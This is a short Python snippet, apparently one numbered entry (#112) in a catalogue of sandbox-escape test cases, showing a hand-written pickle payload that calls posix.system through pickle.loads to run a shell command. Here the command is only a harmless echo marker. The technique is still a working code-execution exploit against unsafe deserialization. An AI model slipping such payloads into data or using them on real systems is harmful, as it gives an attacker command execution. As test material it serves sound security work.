# escape: 112
# technique: pickle REDUCE on posix.system
# family: pickle
# goal: exec
# first-seen: folklore; Marco Slaviero 2011
import pickle
b = b"cposix\nsystem\n(S'echo ESCAPED:pickle'\ntR."
pickle.loads(b)
